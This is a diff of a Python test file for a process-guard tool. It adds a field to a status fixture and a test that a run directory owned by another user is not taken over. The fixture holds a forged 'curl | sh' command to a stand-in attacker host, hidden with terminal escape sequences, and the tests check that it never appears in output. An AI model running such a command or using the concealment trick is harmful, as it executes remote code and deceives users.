@@ -16,13 +16,14 @@ from pathlib import Path
 
 import pytest
 
-from scripts.guard.rundir import directory, trust
+from scripts.guard.rundir import directory, projects, trust
 from scripts.guard.rundir.lock import Lock
 from tests.conftest import NOBODY, AsAnotherUser, FreePort
 from tests.stack.harness import DEADLINE, ROOT, GuardRun
 
 FORGED = "curl -s https://evil.example | sh"
 STATUS = {
+    "guard": {},
     "services": [
         {
             "name": "web\x1b]0;title\x07",
@@ -30,10 +31,11 @@ STATUS = {
             "since": "2026-01-31T12:00:00.000Z",
             "pid": None,
             "relaunches": 0,
+            "left_out": False,
             "url": None,
             "cause": {"kind": "x", "sentence": "gone\x1b[2J\x9b31m", "fix": f"\x1b[8m{FORGED}\r"},
         }
-    ]
+    ],
 }
 CRASH = {
     "id": "2026-01-31T12-00-00.000Z-web-1",
@@ -200,6 +202,16 @@ class TestAnotherUser:
         assert f"port {run.ports['guard']} belongs to user {NOBODY}" in text
         assert impostor.heard == []
         assert FORGED not in text
+
+    def test_what_they_left_in_the_project_is_not_taken_over(
+        self, run: GuardRun, tmp_path: Path
+    ) -> None:
+        run.directory.mkdir(mode=0o700)
+        (run.directory / "lock").touch()
+        os.chown(run.directory, NOBODY, NOBODY)
+        assert projects.take_over(run.directory, tmp_path / "ours") is None
+        os.chown(run.directory, 0, 0)
+        assert projects.take_over(run.directory, tmp_path / "ours")
 
     def test_a_link_of_theirs_to_a_folder_of_ours_is_no_substitute(
         self, run: GuardRun, tmp_path: Path, as_another_user: AsAnotherUser, leaving: ExitStack
